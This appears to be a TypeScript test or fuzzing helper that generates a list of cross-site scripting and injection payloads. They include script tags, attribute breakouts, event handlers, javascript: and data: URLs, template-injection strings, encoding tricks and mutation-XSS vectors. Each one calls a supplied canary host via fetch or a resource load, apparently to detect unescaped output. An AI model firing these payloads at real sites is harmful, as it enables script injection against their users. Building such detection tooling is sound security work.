export const markup = (canary: string): string[] => {
  const call = `fetch('${canary}/did?%7B%22what%22:%22ran markup%22%7D')`;
  const at = `${canary}/shown?markup`;
  return [
    `<script>${call}</script>`,
    `"><script>${call}</script>`,
    `'><script src=${at}></script>`,
    `</title><script>${call}</script>`,
    `</textarea></style></noscript><img src=x onerror=${call}>`,
    `"><img src=${at} onerror=${call}>`,
    `" onmouseover="${call}" autofocus onfocus="${call}" x="`,
    `' style='background:url(${at})' x='`,
    `<svg onload=${call}><animate onbegin=${call} attributeName=x dur=1s>`,
    `<iframe srcdoc="<script>${call}</script>">`,
    `<base href="${canary}/"><meta http-equiv=refresh content="0;url=${at}">`,
    `<form action=${at}><button autofocus>x</button></form>`,
    `<link rel=stylesheet href=${at}><style>@import '${at}'</style>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=${at}>">`,
    `<noscript><p title="</noscript><img src=${at}>">`,
    `--><img src=${at}><!--`,
    `]]><img src=${at}>`,
    `\\"><img src=${at}>\\u003cimg src=${at}\\u003e`,
    '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img&#62;',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what template engines would fill in
    '{{constructor.constructor("alert(1)")()}}${alert(1)}<%= 1 %>#{1}',
    `javascript:${call}`,
    `JaVaScRiPt:${call}//http://x.example/`,
    `data:text/html,<script>${call}</script>`,
    `//${canary.slice(7)}/shown?markup`,
    `http://x.example/"><img src=${at}>`,
    'http://user:password@x.example/',
    `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    `\u2028<img src=${at}>\u2029`,
    `\u202e<img src=${at}>\u2066`,
    `＜script＞${call}＜/script＞`,
    `<a href="javascript:${call}" id=main name=body>`,
    `<xmp><plaintext><template shadowrootmode=open><img src=${at}>`,
  ];
};
